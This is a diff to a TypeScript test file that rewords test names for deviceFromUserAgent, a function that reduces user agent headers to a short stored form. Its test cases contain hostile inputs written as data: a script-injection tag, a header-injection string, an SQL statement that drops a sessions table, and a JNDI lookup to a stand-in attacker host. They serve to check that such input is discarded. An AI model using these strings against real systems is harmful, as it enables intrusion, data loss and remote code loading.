@@ -29,26 +29,26 @@ test.each<[mark: string, userAgent: string]>([
   expect(deviceFromUserAgent(userAgent)).toBe(mark);
 });
 
-describe('J5 a user agent header without a known name leaves nothing in the database', () => {
+describe('J5 the stored short form of a user agent header', () => {
   test.each<[what: string, userAgent: string | undefined]>([
-    ['none', undefined],
-    ['nothing', ''],
+    ['a missing header', undefined],
+    ['an empty header', ''],
     ['markup', '<img src=x onerror=alert(1)>'],
     ['a line break', 'a\r\nSet-Cookie: sid=1'],
     ['JSON', '{"level":60}'],
     ['SQL', "'; drop table sessions; --"],
     ['a template', '${jndi:ldap://evil.example/a}'],
-    ['names without the rest of it', 'Chrome Firefox Safari Edge'],
-    ['what a browser says, but far behind', `${'x'.repeat(512)} Chrome/1 (Windows NT 10.0)`],
-  ])('%s', (_what, userAgent) => {
+    ['names without versions', 'Chrome Firefox Safari Edge'],
+    ['a browser’s name after 512 other characters', `${'x'.repeat(512)} Chrome/1 (Windows NT 10.0)`],
+  ])('is empty for %s', (_what, userAgent) => {
     expect(deviceFromUserAgent(userAgent)).toBe('/');
   });
 
-  test('and the text around a known name is not stored', () => {
+  test('does not contain the text around a known name', () => {
     expect(deviceFromUserAgent('<b>Chrome/1</b> (Windows NT <script>)')).toBe('Chrome/Windows/1');
   });
 
-  test.each(['Chrome/', 'Chrome/x7', 'Chrome/12345', 'Chrome/-1'])('and with %s leaves no version', (userAgent) => {
+  test.each(['Chrome/', 'Chrome/x7', 'Chrome/12345', 'Chrome/-1'])('has no version for %s', (userAgent) => {
     expect(deviceFromUserAgent(userAgent)).toBe('Chrome/');
   });
 });
